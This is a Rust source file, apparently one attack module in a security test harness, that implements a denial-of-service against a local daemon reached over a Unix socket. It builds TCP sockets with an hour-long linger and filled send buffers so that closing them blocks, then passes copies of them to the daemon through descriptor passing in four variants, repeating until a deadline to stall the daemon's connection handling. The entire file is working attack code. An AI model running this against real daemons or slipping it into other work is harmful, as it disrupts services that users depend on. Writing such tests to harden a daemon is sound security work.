//! Descriptors whose close blocks: TCP sockets that linger over data which their peer does not read.

use std::io::{IoSlice, Write as _};
use std::mem::MaybeUninit;
use std::net::{TcpListener, TcpStream};
use std::os::fd::AsFd as _;
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::time::{Duration, Instant};

use anyhow::{Result, ensure};
use rustix::net::{SendAncillaryBuffer, SendAncillaryMessage, SendFlags, sendmsg, sockopt};
use serde_json::json;

use super::{Attack, Target};

/// Connections at the same time: more than one user may have.
const CONNECTIONS: usize = 100;
const REQUEST: &[u8] = b"{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"device.list\"}\n";

/// Size of the receive buffer of the end that does not read, bytes: less than the other end's send buffer.
const RECEIVE_BUFFER: usize = 2048;

/// Returns a listener whose connections receive next to nothing while nobody reads.
fn listener() -> Result<TcpListener> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    sockopt::set_socket_recv_buffer_size(&listener, RECEIVE_BUFFER)?;
    Ok(listener)
}

/// A socket whose close blocks, and the end that does not read.
fn lingering(listener: &TcpListener) -> Result<(TcpStream, TcpStream)> {
    let mut socket = TcpStream::connect(listener.local_addr()?)?;
    let (peer, _) = listener.accept()?;
    sockopt::set_socket_linger(&socket, Some(Duration::from_secs(3600)))?;
    socket.set_nonblocking(true)?;
    while socket.write(&[0; 1 << 14]).is_ok() {}
    Ok((socket, peer))
}

/// Sends the last copy of a socket with some bytes.
fn send(to: &UnixStream, bytes: &[u8], socket: TcpStream, copies: usize) -> Result<()> {
    let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(16))];
    let mut ancillary = SendAncillaryBuffer::new(&mut space);
    let fds = vec![socket.as_fd(); copies];
    ensure!(ancillary.push(SendAncillaryMessage::ScmRights(&fds)), "too many descriptors");
    let sent = sendmsg(to, &[IoSlice::new(bytes)], &mut ancillary, SendFlags::NOSIGNAL);
    drop(fds);
    // If the daemon was quicker, this copy is the last, and blocks.
    std::thread::spawn(move || drop(socket));
    sent?;
    Ok(())
}

/// Has every connection that the daemon accepts close such a socket, in different ways.
fn attack(socket: &Path, listener: &TcpListener, at: usize) -> Result<(UnixStream, TcpStream)> {
    let (lingering, peer) = lingering(listener)?;
    let client = UnixStream::connect(socket)?;
    match at % 4 {
        0 => send(&client, REQUEST, lingering, 1)?,
        1 => send(&client, REQUEST, lingering, 12)?,
        2 => send(&client, b"{", lingering, 1)?,
        _ => {
            send(&client, b"\n", lingering, 1)?;
            client.shutdown(std::net::Shutdown::Write)?;
        }
    }
    Ok((client, peer))
}

pub(super) fn run(target: &Target) -> Result<Attack> {
    let listener = listener()?;
    // The attack takes effect only if the close blocks.
    let (socket, peer) = lingering(&listener)?;
    let closing = std::thread::spawn(move || drop(socket));
    std::thread::sleep(Duration::from_millis(200));
    ensure!(!closing.is_finished(), "closing a lingering socket does not block");
    drop(peer);
    let mut kept = Vec::new();
    let (until, mut sent, mut refused) = (target.end(), 0_u32, 0_u32);
    while sent == 0 || Instant::now() < until {
        let at = kept.len();
        // A connection that the daemon refuses may be closed before the descriptor is sent.
        match attack(&target.socket, &listener, at) {
            Ok(ends) => {
                kept.push(ends);
                sent += 1;
            }
            Err(_) => refused += 1,
        }
        if kept.len() >= CONNECTIONS {
            std::thread::sleep(Duration::from_millis(100));
            kept.drain(..CONNECTIONS / 2);
        }
    }
    ensure!(sent > 0, "no descriptor was sent");
    Ok((json!({ "case": "descriptors", "sent": sent, "refused": refused }), Box::new(kept)))
}
